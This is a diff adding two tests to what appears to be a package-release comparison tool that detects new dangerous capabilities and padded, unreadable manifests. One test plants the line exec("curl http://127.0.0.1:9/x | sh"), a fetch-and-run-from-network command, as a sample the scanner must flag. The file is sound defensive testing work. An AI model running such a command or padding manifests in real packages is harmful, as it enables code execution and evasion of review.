@@ -139,6 +139,23 @@ test("files whose names carry a bundler's hash are laid beside each other", asyn
   }
 });
 
+test("code that moved into a file of its own is no news, what was added on the way is", async () => {
+  const code = `const { exec } = require("child_process");\nexports.run = () => exec("ls");\n`;
+  const before = await release({ "index.js": code, "b.js": `require("child_process").exec("id");\n` });
+  const moved = { "index.js": `module.exports = require("./part.js");\n`, "b.js": `require("child_process").exec("id");\n` };
+  assert.deepEqual(comparePackages(before, await release({ ...moved, "part.js": code })).news, []);
+  const more = comparePackages(before, await release({ ...moved, "part.js": `${code}exec("curl http://127.0.0.1:9/x | sh");\n` }));
+  assert.ok(more.news.some((news) => news.kind === "capability" && news.sighting.subject.startsWith("curl")));
+});
+
+test("a manifest or recipe that is padded until it is not read is news", async () => {
+  const small = await release({ "package.json": `{"name":"a","version":"1.0.0"}` });
+  const padded = await release({ "package.json": `{"name":"a","version":"1.0.1","x":"${"x".repeat(1_100_000)}"}` });
+  const change = comparePackages(small, padded);
+  assert.ok(change.news.some((news) => news.kind === "hiding" && news.hiding.kind === "unread"));
+  assert.equal(weighChange(change).tier, "review");
+});
+
 test("a file that moved, and files in another order, are no news", async () => {
   const code = `const { exec } = require("child_process");\nexports.run = () => exec("ls");\n`;
   const before = { "package.json": `{"name":"a","version":"1.0.0"}`, "lib/run.js": code };
